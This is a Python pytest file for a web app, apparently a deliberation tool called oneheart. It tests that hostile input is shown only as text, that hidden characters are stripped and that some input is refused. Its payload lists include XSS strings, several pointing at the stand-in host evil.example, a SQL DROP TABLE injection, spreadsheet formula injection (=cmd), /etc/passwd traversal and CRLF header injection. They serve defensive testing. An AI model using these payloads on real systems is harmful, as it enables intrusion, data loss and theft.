"""Words that mean harm: said, shown on every page and taken away, they are words only, or refused clearly."""

from __future__ import annotations

import contextlib
import csv
import html
import io
import json
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import numpy as np
import pytest

import oneheart
from oneheart.engine.analysis import analyze
from oneheart.engine.desire import entry
from oneheart.live import events as ev
from oneheart.live.gathering import LiveGathering, create
from oneheart.live.house import House
from oneheart.live.offered import Purpose
from oneheart.model.desire import Desire
from oneheart.model.gathering import Responses
from oneheart.reports.report import write_report
from oneheart.web.app import make_app
from oneheart.web.hall import screen
from tests.support.aliases import host_alias
from tests.support.codes import codes
from tests.support.desks import Desk
from tests.support.gatherings import Browser, Door, make_settings

Open = Callable[..., Any]
CODE = "ABCD3456"
HOME = f"/g/{CODE}"
MARK = "zqx"  # in every one of them, and nowhere else

STORED = {
    "script": "<script>alert('zqx')</script>",
    "script, open": "zqx <ScRiPt src=//evil.example/x>",
    "end of a script": "zqx</script><script>alert(1)</script>",
    "end of a title": "zqx</title><img src=x onerror=alert(1)>",
    "end of a textarea": "zqx</textarea><iframe src=//evil.example>",
    "end of bdi": "zqx</bdi></p></main><form action=//evil.example><input name=a>",
    "attribute, double": 'zqx" autofocus onfocus="alert(1)',
    "attribute, single": "zqx' onmouseover='alert(1)",
    "attribute, bare": "zqx x onclick=alert(1) y=",
    "svg": "<svg onload=alert('zqx')><a xlink:href=javascript:alert(1)>",
    "math": "<math><mi xlink:href=javascript:alert('zqx')>",
    "style": "zqx</style><style>*{background:url(//evil.example)}</style>",
    "comment": "zqx <!-- --!> <![CDATA[ ]]> -->",
    "address": "javascript:alert('zqx')",
    "data address": "data:text/html,<b>zqx</b>",
    "entities": "zqx &lt;b&gt; &#60;img&#62; &amp;amp; &nbsp;",
    "half an entity": "zqx &lt &#x3c; &notanentity;",
    "jinja": "zqx {{ 7*7 }} {% raw %} {# #} ${7*7} #{7*7} <%= 7*7 %>",
    "our placeholders": "zqx {n} {of} {count} {time} {0} %s %(n)s {text!r}",
    "json": '{"zqx": "\\u003cb\\u003e", "kept": true}',
    "end of json": "zqx'});alert(1);//",
    "backslashes": "zqx \\x3cscript\\x3e \\u003c \\\\ \\n",
    "sql": "zqx'; DROP TABLE events; --",
    "formula": "=cmd|'/C zqx'!A0",
    "formula, plus": "+zqx(1)",
    "formula, minus": "-zqx(1)",
    "formula, at": "@ zqx SUM(A1)",
    "formula, link": '=HYPERLINK("//evil.example";"zqx")',
    "quotes": 'zqx "one" ""two"" , ; \' .',
    "event stream": "zqx data: {} id: 1 event: x",
    "pointed": "zqx שָׁלוֹם عَرَبِيّ",
    "families": "zqx" + "👨‍👩‍👧‍👦" * 137,
    "family": "zqx 👨‍👩‍👧‍👦 🏳️‍🌈",
    "path": "../../../etc/passwd zqx",
    "format": "zqx %n%n%s%x %00 %0d%0a",
}
CHANGED = {  # kept, but not as typed: what cannot be seen or turns other words around is taken out
    "bidi override": ("zqx \u202egnp.exe\u202c", "zqx gnp.exe"),
    "bidi isolate": ("\u2067zqx\u2069 and the rest", "zqx and the rest"),
    "zero width": ("z\u200bq\ufeffx\u2060", "zqx"),
    "tags": ("zqx\U000e0041\U000e007f", "zqx"),
    "null bytes": ("zq\x00x\x00", "zqx"),
    "escapes": ("\x1b[31mzqx\x07\x08", "[31mzqx"),
    "lines": ("zqx\r\nSet-Cookie: a=b\n\ndata: {}", "zqx Set-Cookie: a=b data: {}"),
    "line separators": ("zqx\u2028\u2029 one", "zqx one"),
    "lone surrogate, as bytes": ("zqx\ud800!", None),
    "many marks": ("zqx" + "\u0301" * 400, "zqx\u0301\u0301\u0301\u0301\u0301\u0301"),
    "gaps of our pages": ("zqx\ue000text\ue001", "zqxtext"),
}
REFUSED = {
    "nothing to be seen": "\u200b\u2060\u3164\u202e",
    "nothing at all": "   ",
    "only signs": "<>\"'&",
    "too long": "zqx" + "w" * 138,
    "contact": "zqx write to me@example.org",
}


class Shape(HTMLParser):
    """What a page is made of: elements and attributes, and its text; none of it read from what people typed."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.values: list[tuple[str, str, str]] = []
        self.text: list[str] = []
        self.declared: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[tag, tuple(sorted(name for name, _ in attrs))] += 1
        self.values += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.declared.append(data)

    def handle_decl(self, decl: str) -> None:
        self.declared.append(decl)

    def handle_pi(self, data: str) -> None:
        self.declared.append(data)

    def unknown_decl(self, data: str) -> None:
        self.declared.append(data)

    @property
    def said(self) -> str:
        return "".join(self.text)


MAY_HOLD = {  # attributes of our own pages in which words of people stand, as a value only
    ("body", "data-now"),
    ("input", "value"),
    ("option", "value"),
}


class Gathering:
    """A gathering in which one person says something and everybody who can read it reads it."""

    def __init__(self, open_door: Open, text: str, **settings: Any) -> None:
        self.door = open_door(**settings)
        self.door.submit("h0", "circle-one", ev.CircleAdded("", "olive"))
        self.author = self.door.join(circle="0")
        self.friends = [self.door.join(circle="0") for _ in range(6)]
        for number, friend in enumerate(self.friends[2:]):
            self.door.say(friend, f"A wish of friend {number}")
        self.sent = self.door.say(self.author, text, key="say-the-words")
        self.number = len(self.state.desires) - 1

    @property
    def state(self) -> Any:
        return self.door.gathering.state

    def pages(self) -> dict[str, str]:
        """Return every page on which the words stand, by a name."""
        reader, steward, number = self.friends[0], self.friends[1], self.number
        pages = {"mine": self.author.get(f"{HOME}/mine").text, "card": self.card(self.friends[2])}
        self.door.say(self.friends[3], self.state.desires[number].text, key="say-it-again")
        pages["is this yours?"] = self.friends[3].get(HOME).text
        self.door.submit("h0", "duty-of-circle", ev.DutyGiven(0, self.door.seat(steward)))
        listed, card = self.door.alias(steward, number, Purpose.CIRCLE), self.door.alias(reader, number)
        pages["circle"] = steward.get(f"{HOME}/circle?from={listed}").text
        desk = Desk(self.door)
        pages["desk"] = desk.browser.get(desk.home).text
        steward.post(f"{HOME}/circle/carry", data={"key": "carry-it-up-1", "desire": listed})
        pages["circle, carried"] = steward.get(f"{HOME}/circle").text
        reader.post(f"{HOME}/respond", data={"key": "mine-too-0001", "desire": card, "stance": "1"})
        pages["answered"] = reader.get(f"{HOME}/mine").text
        pages["adding"] = reader.get(f"{HOME}?add={card}").text
        self.door.submit("h0", "accept-it", ev.Moderated(number, "accepted"))
        self.door.submit("h0", "show-it", ev.DesiresShown([number]))
        self.door.gathering.tick()
        pages["desk, taken"] = desk.browser.get(desk.home).text
        pages["hall"] = desk.browser.get(f"/hall/{CODE}").text
        pages["same"] = desk.browser.get(f"{desk.home}/same?desire={host_alias(self.door.gathering, number)}").text
        return pages

    def card(self, reader: Any) -> str:
        """Return the page of the card with these words, which is dealt among others."""
        reader.post(f"{HOME}/own")
        for turn in range(12):
            page = str(reader.get(f"{HOME}?cards=1&more=1").text)
            shown = page.split('name="desire" value="')[1].split('"', maxsplit=1)[0]
            if shown == self.door.alias(reader, self.number):
                return page
            reader.post(f"{HOME}/respond", data={"key": f"pass-on-{turn:04}", "desire": shown, "stance": "0"})
        pytest.fail("the card never came")


NOTICE = ("p", ("class", "data-notice"))  # words with a link or a question get one, harmless words do not
LIVE = {"script", "style", "link", "form", "input", "a", "textarea", "title", "img", "iframe", "svg", "object", "meta"}


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Shape]:
    """Return the shapes of the same pages with harmless words."""
    with another(tmp_path_factory.mktemp("plain")) as open_door:
        return {name: Shape(page) for name, page in Gathering(open_door, "zqx and peace").pages().items()}


@contextlib.contextmanager
def another(folder: Path) -> Iterator[Open]:
    """Open doors in another folder than the test's own."""
    with contextlib.ExitStack() as opened:

        def open_door(**settings: Any) -> Any:
            path = folder / "other.oneheart"
            create(path, make_settings(**settings), code=CODE)
            house = House([LiveGathering.open(path)], folder=None)
            client = Browser(make_app(house, hosts=["testserver"]), follow_redirects=False)
            opened.enter_context(client)
            return Door(house, client)

        yield open_door


def is_only_words(name: str, page: str, words: str, plain: dict[str, Shape]) -> None:
    """Assert that a page holds the words as text, and nothing else than a page with harmless words holds."""
    shape, usual = Shape(page), plain[name]
    known = {one for other in plain.values() for one in other.elements}
    assert {*shape.elements} - known - {NOTICE} == set(), name
    for tag in LIVE:
        counted = [Counter({k: n for k, n in one.elements.items() if k[0] == tag}) for one in (shape, usual)]
        assert counted[0] == counted[1], (name, tag)
    assert shape.declared == usual.declared, name
    assert {(tag, attr) for tag, attr, value in shape.values if MARK in value} <= MAY_HOLD, name
    assert words in shape.said, name  # nothing of it is lost


@pytest.mark.parametrize("text", STORED.values(), ids=STORED.keys())
def test_words_are_words_on_every_page(open_door: Open, plain: dict[str, Shape], text: str) -> None:
    gathering = Gathering(open_door, text)
    assert gathering.sent.status_code == 303
    assert gathering.state.desires[gathering.number].text == text
    for name, page in gathering.pages().items():
        is_only_words(name, page, text, plain)
    (one,) = json.loads(gathering.author.get(f"{HOME}/mine.json").text)["desires"]
    assert one["text"] == text
    told = screen.encode(gathering.door.gathering, gathering.door.gathering.snapshot)
    assert json.loads(told)["shown"][0]["text"] == text
    assert b"\n" not in told


@pytest.mark.parametrize(("typed", "kept"), CHANGED.values(), ids=CHANGED.keys())
def test_what_cannot_be_seen_is_taken_out_and_the_rest_is_kept(open_door: Open, typed: str, kept: str | None) -> None:
    gathering = Gathering(open_door, "zqx and peace")
    body = urlencode({"key": "say-as-bytes", "text": typed}, errors="surrogatepass")
    head = {"content-type": "application/x-www-form-urlencoded"}
    author = gathering.friends[0]
    assert author.post(f"{HOME}/desire", content=body, headers=head).status_code == 303
    text = gathering.state.desires[-1].text
    assert text == kept if kept is not None else text.startswith(MARK) and text.endswith("!")
    text.encode()  # no surrogate is left
    assert entry.clean(text) == text
    mine = author.get(f"{HOME}/mine").text
    assert text in Shape(mine).said
    for control in "\x00\x07\x08\x1b\u200b\u202e\u2028\ue000":
        assert control not in mine


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED.keys())
def test_what_cannot_be_kept_is_refused_in_words_and_stays_in_the_field(open_door: Open, text: str) -> None:
    door = open_door()
    browser = door.join()
    sent = door.say(browser, text, key="say-the-words")
    assert sent.status_code == 422
    assert len(door.gathering.state.desires) == 0
    told = html.unescape(sent.text)
    assert any(sentence in told for sentence in ("Write what you want.", "longer than 140", "e-mail"))
    shape = Shape(sent.text)
    assert ("textarea", "aria-invalid") in {(tag, name) for tag, name, _ in shape.values}
    assert text.strip() in shape.said
    as_json = browser.post(
        f"{HOME}/desire", data={"key": "say-the-words", "text": text}, headers={"accept": "application/json"}
    )
    assert as_json.status_code == 422
    assert as_json.json()["kept"] is False
    assert as_json.json()["sentence"] in told
    assert door.say(browser, "Peace", key="say-the-words").status_code == 303  # the same key is not used up


def test_ten_megabytes_are_refused_at_once_and_stop_nobody(open_door: Open) -> None:
    door = open_door()
    browser = door.join()
    large = b"key=say-ten-mega&text=" + b"zqx " * 2_621_440
    head = {"content-type": "application/x-www-form-urlencoded"}

    def without_length() -> Any:
        for first in range(0, len(large), 65536):
            yield large[first : first + 65536]

    for path in ("desire", "respond", "join"):
        sent = browser.post(f"{HOME}/{path}", content=without_length(), headers=head)
        assert (sent.status_code, codes(sent.text, "why")) == (413, ["too large"]), path
        assert sent.headers["content-type"].startswith("text/html")
    for path in (f"{HOME}/desire", f"{HOME}/circle/line", f"/api/v1/gatherings/{CODE}/desires", f"/j/{CODE}"):
        sent = browser.post(path, content=large, headers=head)
        assert sent.status_code == 413, path
        if path.startswith("/api/"):
            assert sent.json()["why"] == "too large"
        else:
            assert sent.headers["content-type"].startswith("text/html"), path
    assert len(door.gathering.state.desires) == 0
    assert door.say(browser, "Peace").status_code == 303


def test_what_leaves_holds_every_word_and_no_formula(open_door: Open, tmp_path: Path) -> None:
    door = open_door()
    for number, text in enumerate(STORED.values()):
        assert door.say(door.join(), text, key=f"say-number-{number:03}").status_code == 303
    for seat in range(len(door.gathering.state.seats)):
        door.submit(f"s{seat}", "rows-yes", ev.RowsConsented(seat, on=True))
    desk = Desk(door)
    door.move("weaving")
    answer = desk.browser.post(f"{desk.home}/export.zip", data={"key": "take-the-rows", "rows": "1"})
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        archive.extractall(tmp_path)
        names = [name for name in archive.namelist() if name.endswith(".csv")]
        tables = {name: archive.read(name).decode("utf-8-sig") for name in names}
    assert "desires.csv" in tables
    for name, table in tables.items():
        for row in csv.reader(io.StringIO(table), strict=True):
            for cell in row:
                signs = "=+@\t\r-" if MARK in cell else "=+@\t\r"  # a stance may be -1
                assert not cell.startswith(tuple(signs)), (name, cell)
    for shape in ("polis", "tables"):
        back = oneheart.read(tmp_path / shape)
        assert sorted(desire.text for desire in back.desires) == sorted(STORED.values())


def test_a_report_of_such_words_has_no_element_more(tmp_path: Path) -> None:
    def shape_of(texts: list[str], folder: Path) -> Shape:
        rng = np.random.default_rng(5)
        people, count = 60, len(texts)
        stances = np.where(rng.random((people, count)) < 0.8, 1, 0)
        i, j = np.nonzero(rng.random(stances.shape) < 0.7)
        gathering = oneheart.Gathering(
            texts[0],
            tuple(f"p{n}" for n in range(people)),
            tuple(Desire(str(n), text) for n, text in enumerate(texts)),
            Responses.of(i, j, stances[i, j]),
        )
        write_report(analyze(gathering, seed=1), folder)
        return Shape((folder / "report.html").read_text())

    hostile = shape_of([*STORED.values()], tmp_path / "hostile")
    usual = shape_of([f"zqx and wish {number}" for number in range(len(STORED))], tmp_path / "plain")
    assert {*hostile.elements} == {*usual.elements}
    dead = LIVE - {"a", "svg"}  # there are more or fewer pictures and links as lines are more or fewer
    count = [sum(n for (tag, _), n in one.elements.items() if tag in dead) for one in (hostile, usual)]
    assert count[0] == count[1]
    for text in STORED.values():
        assert text in hostile.said


WORST = [STORED[name] for name in ("end of a title", "end of a textarea", "attribute, double", "jinja", "svg")]


@pytest.mark.parametrize("text", WORST)
def test_names_questions_and_reasons_of_hosts_are_words_too(open_door: Open, tmp_path: Path, text: str) -> None:
    def pages(words: str, open_door: Open) -> dict[str, Shape]:
        door = open_door(
            name=words,
            question=dict.fromkeys(("en", "he", "ru", "es"), words),
            words={"en": {"Say it": words, "Your circle": words}},
            hold=True,
        )
        door.submit("h0", "circle-one", ev.CircleAdded(words, "olive"))
        door.submit("h0", "occasion-1", ev.OccasionAdded(words, "meal", "MEAL42"))
        desk = Desk(door)
        first = door.browser().get(f"/j/{CODE}").text
        browser = door.join(circle="0")
        found = {"door": first, "phone": browser.get(HOME).text}
        door.say(browser, "Peace", key="say-peace")
        door.submit("h0", "not-taken", ev.Moderated(0, "rejected", words))
        door.gathering.tick()
        found |= {"mine": browser.get(f"{HOME}/mine").text, "circle": browser.get(f"{HOME}/circle").text}
        found["hall"] = browser.get(f"/hall/{CODE}").text
        for place in ("", "/circles", "/settings", "/cards", "/programme", "/tables", "/measures", "/log", "/end"):
            found[f"desk{place}"] = desk.browser.get(f"{desk.home}{place}").text
        return {name: Shape(page) for name, page in found.items()}

    hostile = pages(text, open_door)
    with another(tmp_path) as other:
        usual = pages("zqx and peace", other)
    for name, shape in hostile.items():
        assert shape.elements == usual[name].elements, name
        assert text in shape.said, name
        holders = {(tag, attr) for tag, attr, value in shape.values if MARK in value}
        assert holders <= {*MAY_HOLD, ("input", "placeholder")}, name
